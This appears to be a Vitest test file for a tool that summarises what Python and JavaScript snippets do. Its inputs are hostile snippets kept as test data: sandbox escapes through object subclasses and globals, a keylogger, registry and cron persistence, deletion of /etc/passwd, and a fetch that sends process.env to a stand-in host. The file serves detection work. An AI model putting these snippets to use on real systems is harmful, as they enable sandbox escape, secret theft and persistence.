import { describe, expect, test } from 'vitest'
import { summary } from '../harness.ts'

/** Python: functions that are reached without naming their module, and what desktops keep. */

const PICKED = 'opaque a class is called that is picked out of all classes there are'

describe('reaching for functions', () => {
  for (const [code, expected] of [
    [`import operator, os; operator.methodcaller('system', 'id')(os)`, ['$ id']],
    [`import operator, os; operator.attrgetter('system')(os)('id')`, ['$ id']],
    [`import operator, os; operator.attrgetter('path.join')(os)('a', 'b')`, []],
    [`[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('id', shell=True)`, [PICKED]],
    [`object.__subclasses__()[42]('id')`, [PICKED]],
    [`().__class__.__mro__[1].__subclasses__()[132].__init__.__globals__['system']('id')`, ['$ id']],
    [`(lambda: 0).__globals__['os'].system('id')`, ['$ id']],
    [`import os; os.walk.__globals__['system']('id')`, ['$ id']],
    [`import os; o = os; exec('o.sys' + 'tem("id")')`, ['$ id', 'python:o.system("id")']],
    [`class A: pass\nfor c in A.__subclasses__(): c()`, []],
    [`import platform; print(platform.system())`, []],
    [`import pty; pty.spawn(['/bin/bash', '-c', 'id'])`, ['> /bin/bash -c id']],
    [`import pexpect; pexpect.spawn('ssh', ['h'])`, ['> ssh h']],
    [`import code; code.interact(local={})`, ['python:<stdin>']],
    [
      `from ctypes import cdll; cdll.LoadLibrary('libc.so.6').unlink(b'/etc/passwd')`,
      ['delete /etc/passwd', 'execute code:native libc.so.6'],
    ],
    [`import subprocess; subprocess.run(['make'], env={'LD_PRELOAD': '/tmp/x.so'})`, ['> make', 'change env:inject LD_PRELOAD']],
    [`import subprocess; subprocess.run(['make'], env={'CI': '1'})`, ['> make']],
  ] as const)
    test(code, () => expect(summary('python', code)).toEqual(expected))
})

describe('desktops', () => {
  for (const [code, expected] of [
    [`import keyring; keyring.get_password('aws', 'me')`, ['read secret:read aws']],
    [
      `import winreg; k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Run'); winreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'c')`,
      ['> reg add HKCU\\Software\\Run /v x /d c /f'],
    ],
    [`import winreg; winreg.DeleteKey(winreg.HKEY_LOCAL_MACHINE, 'Software\\\\X')`, ['> reg delete HKLM\\Software\\X /f']],
    [`import pyautogui; pyautogui.typewrite('x')`, ['execute app:input keyboard and mouse']],
    [`from pynput import keyboard; keyboard.Listener(on_press=f).run()`, ['read capture:keys keyboard']],
    [`import crontab; j = crontab.CronTab(user=True).new(command='id')`, ['$ id', 'persist schedule:cron crontab']],
  ] as const)
    test(code, () => expect(summary('python', code)).toEqual(expected))
})

describe('JavaScript reaches further', () => {
  for (const [code, expected] of [
    [`[].constructor.constructor('return process')().mainModule.require('child_process').execSync('id')`, ['$ id', 'node:return process']],
    [`Function('return this')().process.mainModule.require('child_process').execSync('id')`, ['$ id', 'node:return this']],
    [
      `new (require('worker_threads').Worker)('require("child_process").execSync("id")', { eval: true })`,
      ['$ id', 'node:require("child_process").execSync("id")'],
    ],
    [`new (require('worker_threads').Worker)('./w.js')`, ['script node:./w.js']],
    [`Deno.run({ cmd: ['rm', '-rf', '/x'] })`, ['> rm -rf /x']],
    [`await Bun.file('/x').delete()`, ['delete /x']],
    [`require('del').sync(['/x/**'], { force: true })`, ['delete /x/**']],
    [`require('rimraf').rimrafSync('/x')`, ['delete /x']],
    [`require('execa').execaSync('rm', ['-rf', '/x'])`, ['> rm -rf /x']],
    [`fetch('https://x.example/?' + new URLSearchParams(process.env))`, ['read *', 'send https://x.example/?']],
    [`require('tar').c({ file: 'x.tgz' }, ['/home/me/.ssh'])`, ['read archive:create /home/me/.ssh', 'write archive:create x.tgz']],
    [`require('keytar').getPassword('aws', 'me')`, ['read secret:read aws']],
    [
      `const { Client } = require('ssh2'); const c = new Client(); c.on('ready', () => c.exec('id')).connect({ host: 'h.example' })`,
      ['send net:remote-login h.example', 'send net:remote-shell'],
    ],
    [`process.kill(1, 0)`, []],
  ] as const)
    test(code, () => expect(summary('node', code)).toEqual(expected))
})
